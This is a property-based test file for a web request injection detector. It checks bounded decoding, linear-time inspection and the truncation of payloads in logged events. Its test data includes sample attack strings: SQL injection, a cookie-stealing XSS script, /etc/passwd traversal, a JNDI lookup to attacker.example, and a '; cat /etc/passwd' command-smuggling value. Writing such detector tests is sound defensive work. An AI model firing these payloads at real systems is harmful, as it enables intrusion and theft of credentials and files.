/**
 * Properties of the injection inspection on any input: it never throws, it stays within its bounds
 * and linear in the input's length, and an event never carries a whole payload.
 */
import assert from 'node:assert/strict'
import { describe, it } from 'node:test'
import fc from 'fast-check'
import { walkDecoded } from '../src/inspection/decoded.js'
import { DEFAULT_LIMITS, type RequestInputs, walkInputs } from '../src/inspection/inputs.js'
import { RULES } from '../src/inspection/rules/index.js'
import { harness } from './support/harness.js'

const NUM_RUNS = 300

/** What the injection detector does with a request's inputs, counting the characters it decoded. */
function inspect(input: RequestInputs, limits = DEFAULT_LIMITS): { findings: number; decoded: number } {
  let findings = 0
  let decoded = 0
  walkDecoded(input, ['user-agent', 'referer'], limits, (kind, text, anomalies, raw) => {
    decoded += raw.length
    for (const rule of RULES) if (rule.match(text, kind, anomalies) !== undefined) findings++
    return false
  })
  return { findings, decoded }
}

/** Characters attacks and decoders care about, so that random strings hit the interesting paths. */
const hostileUnit = fc.oneof(
  fc.constantFrom(...'\'"<>;|&$(){}[]\\%#=:/*.-_ \r\n\t\0+`@!~^?'.split('')),
  fc.constantFrom('%', '%2', '%25', '%c0', '%ae', '%u00', '&#', '&lt;', '${', '{{', '../', '--', '/*'),
  fc.constantFrom('union', 'select', 'script', 'jndi', 'proto', 'constructor', 'etc/passwd', 'localhost'),
  fc.string({ maxLength: 3 }),
)
const hostileString = fc.array(hostileUnit, { maxLength: 80 }).map((parts) => parts.join(''))
const body = fc.letrec((tie) => ({
  value: fc.oneof(
    { depthSize: 'small' },
    hostileString,
    fc.integer(),
    fc.boolean(),
    fc.constant(null),
    tie('object'),
    tie('array'),
  ),
  object: fc.dictionary(hostileString, tie('value'), { maxKeys: 6 }),
  array: fc.array(tie('value'), { maxLength: 6 }),
})).value

describe('injection inspection, on any input', () => {
  it('never throws, and decodes no more than the bounds allow', () => {
    fc.assert(
      fc.property(hostileString, hostileString, hostileString, body, (path, query, ua, parsed) => {
        const limits = { maxValueLength: 64, maxTotalLength: 256, maxDepth: 4, maxValues: 16 }
        const { decoded } = inspect(
          { url: `/${path}?${query}`, cookie: query, headers: [ua, undefined], body: parsed },
          limits,
        )
        assert.ok(decoded <= limits.maxTotalLength, `${decoded} characters decoded`)
      }),
      { numRuns: NUM_RUNS },
    )
  })

  it('a body nested 10,000 deep or with 100,000 keys is inspected up to the bounds', () => {
    let deep: unknown = 'x'
    for (let i = 0; i < 10_000; i++) deep = { a: deep }
    const wide = Object.fromEntries(Array.from({ length: 100_000 }, (_, i) => [`k${i}`, `<v${i}>`]))
    for (const parsed of [deep, wide]) {
      const walked = walkInputs(
        { url: '/', cookie: undefined, headers: [], body: parsed },
        [],
        DEFAULT_LIMITS,
        () => false,
      )
      assert.equal(walked.truncated, true)
    }
  })

  it('takes time linear in the input: eight times the input, not sixty-four times the time', () => {
    // Inputs built to make a backtracking or re-scanning implementation blow up; each is timed at
    // 8 KiB and 64 KiB (the default per-request bound), the fastest of 9 runs each (the least
    // disturbed by other work on the machine). A linear implementation gives a ratio near 8, a
    // quadratic one near 64; the bound, 24, leaves room for a busy machine.
    const seeds = ["'", '<', '${', '%25', '../', '{{', 'union select ', '&#', '%c0%ae', 'a'.repeat(63) + ' ']
    for (const seed of seeds) {
      const at = (n: number) => {
        const value = seed.repeat(Math.ceil(n / seed.length)).slice(0, n)
        const limits = { ...DEFAULT_LIMITS, maxValueLength: n, maxTotalLength: n + 16 }
        const input = { url: '/', cookie: undefined, headers: [], body: { value } }
        let fastest = Number.POSITIVE_INFINITY
        for (let i = 0; i < 9; i++) {
          const start = process.hrtime.bigint()
          inspect(input, limits)
          fastest = Math.min(fastest, Number(process.hrtime.bigint() - start))
        }
        return fastest
      }
      at(4096) // warm-up
      const small = at(8192)
      const large = at(65_536)
      assert.ok(large / small < 24, `${JSON.stringify(seed)}: ${small} ns → ${large} ns`)
    }
  })

  it('an event never carries a whole payload, only a fragment of at most 64 characters', async () => {
    const h = await harness({}, (req, res) => {
      const chunks: Buffer[] = []
      req.on('data', (chunk: Buffer) => chunks.push(chunk))
      req.on('end', () => {
        if (chunks.length > 0) (req as { body?: unknown }).body = JSON.parse(Buffer.concat(chunks).toString())
        res.end()
      })
    })
    const payloads = fc.sample(
      fc
        .tuple(
          fc.constantFrom(
            "' UNION SELECT password FROM users--",
            '<script>alert(document.cookie)</script>',
            '../../../../etc/passwd',
            `\${jndi:ldap://attacker.example/a}`,
            '{{7*7}}',
            '; cat /etc/passwd',
          ),
          fc.stringMatching(/^[a-z0-9]{80,120}$/),
        )
        .map(([attack, padding]) => `${attack}${padding}`),
      20,
    )
    for (const payload of payloads) {
      await fetch(`${h.url}/search?q=${encodeURIComponent(payload)}`)
      await fetch(`${h.url}/comments`, {
        method: 'POST',
        headers: { 'content-type': 'application/json' },
        body: JSON.stringify({ comment: payload }),
      })
    }
    await h.wp.flush()
    assert.ok(
      h.events.some(
        (e) => String(e.EventOriginalType).startsWith('malicious_') && e.ThreatField === 'body:comment',
      ),
      'findings in the body recorded',
    )
    // `Url` is the request's URL, as ASIM wants it (its query redacted of secrets and bounded);
    // everything else the finding adds holds a fragment at most.
    const json = JSON.stringify(h.events.map(({ Url: _url, ...rest }) => rest))
    for (const payload of payloads) {
      assert.ok(!json.includes(payload), 'the whole payload is not in any event')
      assert.ok(!json.includes(payload.slice(-80)), "the payload's tail is not in any event")
    }
    for (const event of h.events) {
      const fragment = event.AdditionalFields?.MatchedFragment
      if (fragment !== undefined) assert.ok(String(fragment).length <= 64, String(fragment))
    }
    await h.close()
  })
})
